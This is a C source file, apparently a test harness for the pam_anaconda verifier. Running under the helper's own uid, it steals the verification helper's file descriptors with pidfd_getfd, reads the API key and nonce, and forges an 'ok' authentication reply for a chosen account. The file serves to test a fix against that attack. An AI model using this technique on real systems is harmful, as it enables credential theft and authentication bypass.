/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * pidfd_thief.c - the attacker of pam_anaconda's verifier (issue 11): a
 * process of the verifier's own uid that takes the helper's descriptors
 * with pidfd_getfd(2), reads the API key from them and writes a forged
 * "ok" answer naming an account of its choice.
 *
 * usage: pidfd_thief REPORT DIR FORGED_ACCOUNT SECONDS
 *
 * Runs as root only to find its targets: every new process whose parent
 * works in DIR (the test's PAM runner). For each one a child waits until
 * the target has dropped to its helper uid, becomes exactly that uid (as
 * any other process of the account would be), and tries to take fds 0
 * and 1 until the target exits. Each event is a line in REPORT:
 *   SAW pid uid          a target, and the uid the thief became
 *   DENIED pid fd errno  pidfd_getfd refused (counted once per fd)
 *   GOT pid fd           a descriptor was taken
 *   STOLE pid <bytes>    what it read from the request
 *   FORGED pid <line>    the answer it wrote
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "../../pam_anaconda/verify_protocol.h"

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

static int report_fd;

static void report(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void report(const char *fmt, ...)
{
	char line[2048];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(line, sizeof(line) - 1, fmt, ap);
	va_end(ap);
	if (n < 0)
		return;
	if ((size_t)n > sizeof(line) - 2)
		n = (int)sizeof(line) - 2;
	line[n++] = '\n';
	(void)!write(report_fd, line, (size_t)n);
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int read_file(const char *path, char *buf, size_t len)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n;

	if (fd < 0)
		return -1;
	n = read(fd, buf, len - 1);
	close(fd);
	if (n < 0)
		return -1;
	buf[n] = '\0';
	return (int)n;
}

/* The real uid and gid of pid, from /proc; -1 when it is gone. */
static int ids_of(pid_t pid, uid_t *uid, gid_t *gid)
{
	char path[64], buf[4096], *u, *g;

	snprintf(path, sizeof(path), "/proc/%d/status", (int)pid);
	if (read_file(path, buf, sizeof(buf)) < 0)
		return -1;
	u = strstr(buf, "\nUid:");
	g = strstr(buf, "\nGid:");
	if (!u || !g)
		return -1;
	*uid = (uid_t)strtoul(u + 5, NULL, 10);
	*gid = (gid_t)strtoul(g + 5, NULL, 10);
	return 0;
}

/* Is pid's parent working in dir (our PAM runner)? Root may look. */
static int child_of_runner(pid_t pid, const char *dir)
{
	char path[64], buf[512], cwd[PATH_MAX], *p;
	ssize_t n;
	long ppid;

	snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
	if (read_file(path, buf, sizeof(buf)) < 0 || !(p = strrchr(buf, ')')))
		return 0;
	if (sscanf(p + 2, "%*c %ld", &ppid) != 1)
		return 0;
	snprintf(path, sizeof(path), "/proc/%ld/cwd", ppid);
	n = readlink(path, cwd, sizeof(cwd) - 1);
	if (n < 0)
		return 0;
	cwd[n] = '\0';
	return strcmp(cwd, dir) == 0;
}

/* With a descriptor of the request: take what is there. */
static void steal(pid_t pid, int fd, char *nonce, size_t nonce_len)
{
	char buf[PA_KEY_MAX + PA_NONCE_LEN + 8];
	ssize_t n = recv(fd, buf, sizeof(buf) - 1, MSG_PEEK | MSG_DONTWAIT);

	if (n < 0 && errno == ENOTSOCK) {
		fcntl(fd, F_SETFL, O_NONBLOCK);
		n = read(fd, buf, sizeof(buf) - 1);
	}
	if (n <= 0)
		return;
	buf[n] = '\0';
	report("STOLE %d %s", (int)pid, buf);
	/* the new protocol starts with the nonce line */
	if (n > PA_NONCE_LEN && buf[PA_NONCE_LEN] == '\n' && nonce_len > PA_NONCE_LEN) {
		memcpy(nonce, buf, PA_NONCE_LEN);
		nonce[PA_NONCE_LEN] = '\0';
	}
}

/* With a descriptor of the reply: answer before the helper does. */
static void forge(pid_t pid, int fd, const char *nonce, const char *account)
{
	char line[512];

	if (*nonce) /* today's format, with the stolen nonce */
		snprintf(line, sizeof(line), "%s %s %s root\n", nonce,
			 PA_REPLY_OK, account);
	else /* the format before issue 11: "ok <username> <email>" */
		snprintf(line, sizeof(line), "%s %s -\n", PA_REPLY_OK, account);
	if (write(fd, line, strlen(line)) > 0)
		report("FORGED %d %.*s", (int)pid, (int)strlen(line) - 1, line);
}

/* In a child: become the target's uid, then try until it is gone. */
static void attack(pid_t pid, const char *account, double until)
{
	int got[2] = { -1, -1 }, denied[2] = { 0, 0 }, pidfd;
	char nonce[PA_NONCE_LEN + 1] = "";
	uid_t uid = 0;
	gid_t gid = 0;

	/* wait for the privilege drop (the pre-exec child is still root) */
	while (ids_of(pid, &uid, &gid) == 0 && uid == 0 && now() < until)
		sched_yield();
	if (uid == 0)
		_exit(0);
	if (setgroups(0, NULL) != 0 || setresgid(gid, gid, gid) != 0 ||
	    setresuid(uid, uid, uid) != 0)
		_exit(1);
	report("SAW %d %u", (int)pid, (unsigned)uid);
	pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	if (pidfd < 0)
		_exit(0);
	while (now() < until) {
		struct pollfd p = { .fd = pidfd, .events = POLLIN };

		for (int i = 0; i < 2; i++) {
			if (got[i] >= 0)
				continue;
			got[i] = (int)syscall(SYS_pidfd_getfd, pidfd, i, 0);
			if (got[i] >= 0)
				report("GOT %d %d", (int)pid, i);
			else if (!denied[i]++)
				report("DENIED %d %d %d", (int)pid, i, errno);
		}
		if (got[0] >= 0 && got[1] >= 0)
			break;
		if (poll(&p, 1, 0) == 1)
			break; /* it exited */
	}
	if (got[0] >= 0)
		steal(pid, got[0], nonce, sizeof(nonce));
	if (got[1] >= 0)
		forge(pid, got[1], nonce, account);
	_exit(0);
}

static pid_t last_pid(void)
{
	char buf[32];

	return read_file("/proc/sys/kernel/ns_last_pid", buf, sizeof(buf)) < 0
		       ? 0
		       : (pid_t)atol(buf);
}

int main(int argc, char **argv)
{
	double until;
	pid_t seen;

	if (argc != 5) {
		fprintf(stderr, "usage: pidfd_thief REPORT DIR FORGED_ACCOUNT SECONDS\n");
		return 2;
	}
	report_fd = open(argv[1], O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
	if (report_fd < 0)
		return 1;
	until = now() + atof(argv[4]);
	signal(SIGCHLD, SIG_IGN); /* children reap themselves */
	seen = last_pid();
	report("READY");
	while (now() < until) {
		pid_t last = last_pid();

		for (pid_t pid = seen + 1; pid <= last; pid++) {
			if (!child_of_runner(pid, argv[2]))
				continue;
			if (fork() == 0)
				attack(pid, argv[3], until);
		}
		if (last > seen)
			seen = last;
		sched_yield();
	}
	return 0;
}
